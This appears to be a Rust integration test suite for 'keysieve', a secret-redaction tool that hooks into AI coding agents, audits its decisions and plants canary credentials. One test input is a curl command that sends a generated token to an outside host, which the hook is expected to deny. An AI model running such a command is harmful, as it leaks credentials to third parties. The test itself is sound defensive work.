//! What goes by hooks, `redact` and `exec`: written down so that it can be verified, and told where it is a canary.

mod support;

use std::fs;
use std::io::Write;
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use support::{Run, Running, Tree, token};

/// The binary with a register of its own, if one was made.
fn keysieve(tree: &Tree, args: &[&str]) -> Command {
    let mut command = tree.keysieve(args);
    let register = tree.path().join("canaries");
    match register.exists() || args[0] == "canary" {
        true => command.env("KEYSIEVE_CANARIES", register),
        false => command.env_remove("KEYSIEVE_CANARIES"),
    };
    command.env_remove("XDG_DATA_HOME").env("USER", "jane");
    command
}

fn run(tree: &Tree, args: &[&str], input: &str) -> Run {
    let mut command = keysieve(tree, args);
    let mut running = Running::start(command.stdin(Stdio::piped()));
    let mut stdin = running.child.stdin.take().expect("it is a pipe");
    // One that ends without reading to the end is free to.
    let _ = stdin.write_all(input.as_bytes());
    drop(stdin);
    running.wait()
}

const HOOK: [&str; 4] = ["agent", "hook", "--audit", "audit.jsonl"];

/// The records, which are intact and hold none of `secrets`.
fn records(tree: &Tree, secrets: &[&str]) -> Vec<Value> {
    let verified = tree.run(["audit", "verify", "audit.jsonl"]);
    assert_eq!(verified.code, 0, "{verified:?}");
    let text = fs::read_to_string(tree.path().join("audit.jsonl")).expect("there is a record");
    for secret in secrets {
        assert!(!text.contains(secret), "{text}");
    }
    let records = text.lines().map(serde_json::from_str);
    records.collect::<Result<_, _>>().expect("each is JSON")
}

fn before(command: &str) -> Value {
    json!({
        "session_id": "s-1", "cwd": "/", "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": {"command": command}, "tool_use_id": "t-1",
    })
}

fn after(output: &str) -> Value {
    json!({
        "session_id": "s-1", "cwd": "/", "hook_event_name": "PostToolUse", "tool_name": "Bash",
        "tool_input": {"command": "make"}, "tool_use_id": "t-1",
        "tool_response": {"stdout": output, "stderr": "", "interrupted": false, "isImage": false},
    })
}

fn denies(run: &Run) -> bool {
    run.code == 2 || run.stdout.contains("\"permissionDecision\":\"deny\"")
}

/// A canary of `kind`, and its values: the long words with a digit.
fn planted(kind: &str) -> (Tree, String, Vec<String>) {
    let tree = Tree::new();
    let file = if kind == "mcp" {
        "home.json"
    } else {
        "home.txt"
    };
    let made = run(
        &tree,
        &["canary", "new", "--kind", kind, "--plant", file],
        "",
    );
    assert_eq!(made.code, 0, "{made:?}");
    let text = fs::read_to_string(tree.path().join(file)).expect("it was planted");
    let ends = |c: char| !(c.is_ascii_alphanumeric() || "+/_-".contains(c));
    let values = text
        .split(ends)
        .filter(|word| word.len() >= 20 && word.bytes().any(|b| b.is_ascii_digit()));
    let values: Vec<String> = values.map(str::to_owned).collect();
    assert!(!values.is_empty(), "{kind}");
    (tree, text, values)
}

#[test]
fn every_decision_of_a_hook_is_written_down() {
    let tree = Tree::new();
    let token = token(21);
    let prompt = json!({
        "session_id": "s-1", "cwd": "/", "hook_event_name": "UserPromptSubmit",
        "prompt": format!("use {token}"),
    });
    let cases = [
        (before("ls").to_string(), "tool.before", "allow", "passed"),
        (
            before(&format!("curl https://h.example -H {token}")).to_string(),
            "tool.before",
            "deny",
            "stopped at command, line 1, column 27",
        ),
        (
            after(&format!("a {token} b {token}")).to_string(),
            "tool.after",
            "redact",
            "redacted at stdout, line 1, column 3",
        ),
        (
            prompt.to_string(),
            "prompt",
            "deny",
            "stopped at line 1, column 5",
        ),
        (
            format!("{{\"session_id\": \"{token}"),
            "event",
            "deny",
            "withheld: the event is not a JSON object",
        ),
    ];
    for (event, ..) in &cases {
        run(&tree, &HOOK, event);
    }
    let records = records(&tree, &[&token]);
    assert_eq!(records.len(), cases.len(), "{records:#?}");
    for (record, (_, action, decision, result)) in records.iter().zip(&cases) {
        assert_eq!(record["action"], *action, "{record}");
        assert_eq!(record["decision"], *decision, "{record}");
        assert_eq!(record["result"], *result, "{record}");
        assert_eq!(record["authorizer"], "jane", "{record}");
        if *action != "event" {
            assert_eq!(record["gen_ai.agent.name"], "claude-code", "{record}");
            assert_eq!(record["gen_ai.conversation.id"], "s-1", "{record}");
        }
    }
    assert_eq!(records[1]["rule"], "github-pat");
    assert_eq!(records[1]["severity"], "critical");
    assert_eq!(records[1]["gen_ai.tool.name"], "Bash");
    assert_eq!(records[1]["gen_ai.tool.call.id"], "t-1");
    assert_eq!(records[1]["hosts"], json!(["h.example"]));
    assert_eq!(
        records[3].get("context"),
        None,
        "a prompt is not written down"
    );
    // The same credential is the same one whoever meets it.
    tree.file("f", format!("t = {token}\n"));
    run(&tree, &["scan", "f", "--audit", "audit.jsonl"], "");
    run(&tree, &["redact", "f", "--audit", "audit.jsonl"], "");
    let records = self::records(&tree, &[&token]);
    let known = records.iter().filter_map(|record| record.get("credential"));
    let known: Vec<&Value> = known.collect();
    assert_eq!(known.len(), 5);
    assert!(known.iter().all(|one| *one == known[0]), "{known:?}");
}

/// Where the record cannot be kept nothing passes, unless somebody wants it so.
#[test]
fn nothing_passes_without_its_record() {
    let tree = Tree::new();
    let token = token(22);
    tree.file("audit.jsonl", "notes of mine\n");
    for command in ["ls", &format!("echo {token}")] {
        let stopped = run(&tree, &HOOK, &before(command).to_string());
        assert!(denies(&stopped), "{stopped:?}");
        let said = format!("{stopped:?}");
        assert!(said.contains("something other than an audit log"), "{said}");
        assert!(!said.contains(&token));
    }
    let output = run(&tree, &HOOK, &after("nothing of note").to_string());
    assert!(
        output.stdout.contains("keysieve withheld this"),
        "{output:?}"
    );
    let open = [&HOOK[..], &["--fail-open"]].concat();
    let passed = run(&tree, &open, &before("ls").to_string());
    assert_eq!((passed.code, &passed.stdout[..]), (0, ""), "{passed:?}");
    assert!(passed.stderr.contains("could not be kept"), "{passed:?}");
    for args in [
        &["redact", "--audit", "audit.jsonl"][..],
        &["exec", "--audit", "audit.jsonl", "--", "touch", "done"],
    ] {
        let refused = run(&tree, args, "text\n");
        assert_eq!((refused.code, &refused.stdout[..]), (2, ""), "{args:?}");
    }
    assert!(!tree.path().join("done").exists(), "it was not run");
    let notes = fs::read_to_string(tree.path().join("audit.jsonl")).expect("it is there");
    assert_eq!(notes, "notes of mine\n");
}

#[test]
fn a_canary_raises_the_alarm_in_a_hook() {
    for kind in [
        "aws",
        "github",
        "slack",
        "database-url",
        "env",
        "mcp",
        "word",
    ] {
        let (tree, text, values) = planted(kind);
        let values: Vec<&str> = values.iter().map(String::as_str).collect();
        let high = [&HOOK[..], &["--min-confidence", "high"]].concat();
        let output = run(&tree, &high, &after(&text).to_string());
        let denied = run(&tree, &HOOK, &before(&text).to_string());
        assert!(denies(&denied), "{kind}: {denied:?}");
        for value in &values {
            let said = format!("{output:?}{denied:?}");
            assert!(!said.contains(value), "{kind}: {said}");
        }
        for run in [&output, &denied] {
            let alarm = format!("{}{}", run.stdout, run.stderr);
            assert!(alarm.contains("is the canary"), "{kind}: {alarm}");
            assert!(alarm.contains("planted in"), "{kind}: {alarm}");
        }
        let records = records(&tree, &values);
        let alarms = records.iter().filter(|record| {
            let result = record["result"].as_str().unwrap_or_default();
            record["severity"] == "critical" && result.starts_with("alarm: is the canary")
        });
        let decisions: Vec<&Value> = alarms.map(|record| &record["decision"]).collect();
        assert!(
            decisions.contains(&&json!("redact")),
            "{kind}: {records:#?}"
        );
        assert!(decisions.contains(&&json!("deny")), "{kind}: {records:#?}");
    }
}

#[test]
fn a_register_that_cannot_be_read_withholds() {
    let tree = Tree::new();
    tree.file("canaries", format!("{}\n", token(23)));
    let output = run(&tree, &["agent", "hook"], &after("text").to_string());
    assert_eq!(output.code, 0, "{output:?}");
    assert!(
        output
            .stdout
            .contains("keysieve withheld this, because of the register of canaries"),
        "{output:?}"
    );
    assert!(!format!("{output:?}").contains(&token(23)));
}

#[test]
fn redact_and_exec_write_down_what_they_cover() {
    let (tree, text, values) = planted("github");
    let values: Vec<&str> = values.iter().map(String::as_str).collect();
    let token = token(24);
    let text = format!("{text}{token}\n{token}\n");
    tree.file("leak.txt", &text);
    let runs: [(&str, &[&str], &str); 3] = [
        (
            "redact",
            &["redact", "--audit", "audit.jsonl"],
            "standard input",
        ),
        (
            "exec",
            &["exec", "--audit", "audit.jsonl", "--", "cat", "leak.txt"],
            "cat leak.txt",
        ),
        (
            "redact",
            &["redact", "--audit", "audit.jsonl", "--in-place", "leak.txt"],
            "leak.txt",
        ),
    ];
    for (at, (action, args, context)) in runs.into_iter().enumerate() {
        let done = run(&tree, args, &text);
        assert_eq!(done.code, 0, "{done:?}");
        assert_eq!(done.stderr.matches("is the canary").count(), 1, "{done:?}");
        assert!(done.stderr.contains("home.txt"), "{done:?}");
        let said = format!("{done:?}");
        assert!(!said.contains(values[0]) && !said.contains(&token));
        let mut secrets = values.clone();
        secrets.push(&token);
        let records = records(&tree, &secrets);
        let records = &records[3 * at..];
        assert_eq!(
            records.len(),
            3,
            "one a credential, and the end: {records:#?}"
        );
        let result = |index: usize| records[index]["result"].as_str().expect("it has one");
        for record in records {
            assert_eq!(record["action"], action);
            assert_eq!(record["context"], context);
            assert_eq!(record["decision"], "redact");
        }
        assert!(
            result(0).starts_with("alarm: is the canary"),
            "{}",
            result(0)
        );
        assert_eq!(records[0]["severity"], "critical");
        assert_eq!(result(1), "redacted");
        assert!(
            result(2).ends_with("; redacted 3 secrets: 3 github-pat"),
            "{}",
            result(2)
        );
    }
    tree.file("copied", &text);
    run(&tree, &["scan", "copied", "--audit", "audit.jsonl"], "");
    let scanned = records(&tree, &[&token]).split_off(9);
    let alarms = scanned.iter().filter(|record| {
        let result = record["result"].as_str().unwrap_or_default();
        result.starts_with("alarm: is the canary") && record["severity"] == "critical"
    });
    assert_eq!((scanned.len(), alarms.count()), (2, 1), "{scanned:#?}");
    let clean = run(&tree, &["redact", "--audit", "audit.jsonl"], "nothing\n");
    assert_eq!((clean.code, &clean.stderr[..]), (0, ""));
    let records = records(&tree, &[]);
    let last = records.last().expect("there are some");
    assert_eq!(last["decision"], "allow");
    assert_eq!(last["result"], "done; redacted nothing");
}

/// Known values stand in no record either, not even as the words of the command.
#[test]
fn a_known_value_is_not_written_down() {
    let tree = Tree::new();
    let mut command = keysieve(
        &tree,
        &[
            "exec",
            "--known-from-env",
            "--audit",
            "audit.jsonl",
            "--",
            "echo",
            "correct horse",
        ],
    );
    let done = Running::start(command.env("MY_SECRET", "correct horse")).wait();
    assert_eq!(done.stdout, "[REDACTED:known-value]\n", "{done:?}");
    let records = records(&tree, &["correct", "horse"]);
    assert_eq!(records[0]["context"], "echo [REDACTED:known-value]");
    assert_eq!(
        records[1]["result"],
        "exit code 0; redacted 1 secret: 1 known-value"
    );
}

/// What a wrapped command has covered is written down with whose command it was.
#[cfg(unix)]
#[test]
fn a_wrapped_command_has_its_record() {
    let tree = Tree::new();
    let token = token(25);
    tree.file("leak.txt", format!("{token}\n"));
    let event = json!({
        "conversation_id": "s '1'", "cursor_version": "2.0", "hook_event_name": "preToolUse", "tool_name": "Shell",
        "tool_input": {"command": "cat leak.txt; exit 3"}, "tool_use_id": "-t", "cwd": "/",
    });
    let wrapped = run(&tree, &HOOK, &event.to_string());
    let answer: Value = serde_json::from_str(&wrapped.stdout).expect("JSON");
    let line = answer["updated_input"]["command"].as_str();
    let mut command = Command::new("sh");
    command
        .args(["-c", line.expect("it is wrapped")])
        .current_dir(tree.path())
        .env("USER", "jane");
    let done = Running::start(&mut command).wait();
    assert_eq!(
        (done.code, &done.stdout[..]),
        (3, "[REDACTED:github-pat]\n"),
        "{done:?}"
    );
    let records = records(&tree, &[&token]);
    let results: Vec<&Value> = records.iter().map(|record| &record["result"]).collect();
    let end = "exit code 3; redacted 1 secret: 1 github-pat";
    assert_eq!(results, ["wrapped in keysieve exec", "redacted", end]);
    for record in &records {
        assert_eq!(record["gen_ai.agent.name"], "cursor", "{record}");
        assert_eq!(record["gen_ai.conversation.id"], "s '1'", "{record}");
        assert_eq!(record["gen_ai.tool.name"], "Shell", "{record}");
        assert_eq!(record["gen_ai.tool.call.id"], "-t", "{record}");
        assert_eq!(record["authorizer"], "jane", "{record}");
    }
    assert_eq!(records[1]["action"], "exec");
    assert_eq!(records[1]["rule"], "github-pat");
    // Where no record is kept, nothing is handed on.
    let plain = run(&tree, &["agent", "hook"], &event.to_string());
    assert!(!plain.stdout.contains("--session"), "{plain:?}");
}

#[test]
fn install_hands_the_record_on() {
    let (tree, text, values) = planted("env");
    let home = |args: &[&str]| {
        let mut command = keysieve(&tree, args);
        command
            .env("HOME", tree.path())
            .env("CLAUDE_CONFIG_DIR", tree.path().join(".claude"));
        Running::start(&mut command).wait()
    };
    let install = home(&[
        "agent",
        "install",
        "--agent",
        "claude-code",
        "--audit",
        "audit.jsonl",
        "--authorizer",
        "the team",
        "--audit-sync",
        "--canaries",
        "canaries",
    ]);
    assert_eq!(install.code, 0, "{install:?}");
    let settings = fs::read_to_string(tree.path().join(".claude/settings.json"));
    let settings: Value =
        serde_json::from_str(&settings.expect("it is there")).expect("it is JSON");
    let line = settings["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
        .as_str()
        .expect("a command line");
    let words = shlex::split(line).expect("it is one");
    let mut command = Command::new(&words[0]);
    // Wherever the agent is.
    command
        .args(&words[1..])
        .current_dir("/")
        .env("HOME", tree.path().join("nobody"))
        .env_remove("KEYSIEVE_CANARIES")
        .stdin(Stdio::piped());
    let mut running = Running::start(&mut command);
    let stdin = running.child.stdin.take();
    let written = stdin
        .expect("a pipe")
        .write_all(before(&text).to_string().as_bytes());
    written.expect("it reads");
    assert!(denies(&running.wait()));
    let records = records(&tree, &[&values[0]]);
    assert_eq!(records[0]["authorizer"], "the team");
    assert_eq!(records[0]["severity"], "critical");

    tree.file("notes", "mine\n");
    let refused = home(&["agent", "install", "--agent", "codex", "--audit", "notes"]);
    assert_eq!(refused.code, 2, "every event would be refused: {refused:?}");
    assert!(!tree.path().join(".codex").exists());
}

/// A tool call waits for a hook: it starts no other program.
#[cfg(unix)]
#[test]
fn a_hook_does_not_ask_git() {
    use std::os::unix::fs::PermissionsExt as _;
    let tree = Tree::new();
    let git = tree.file("bin/git", "#!/bin/sh\necho asked >> \"$MARK\"\n");
    fs::set_permissions(&git, fs::Permissions::from_mode(0o755)).expect("it is ours");
    let mark = tree.path().join("mark");
    let with_git = |args: &[&str], input: &str| {
        let mut command = keysieve(&tree, args);
        command
            .env("PATH", tree.path().join("bin"))
            .env("MARK", &mark)
            .stdin(Stdio::piped());
        let mut running = Running::start(&mut command);
        let stdin = running.child.stdin.take();
        let _ = stdin.expect("a pipe").write_all(input.as_bytes());
        running.wait()
    };
    assert_eq!(with_git(&HOOK, &before("ls").to_string()).code, 0);
    assert!(!mark.exists());
    with_git(&["redact", "--audit", "audit.jsonl"], "");
    assert!(mark.exists(), "what waits for nobody does ask");
}
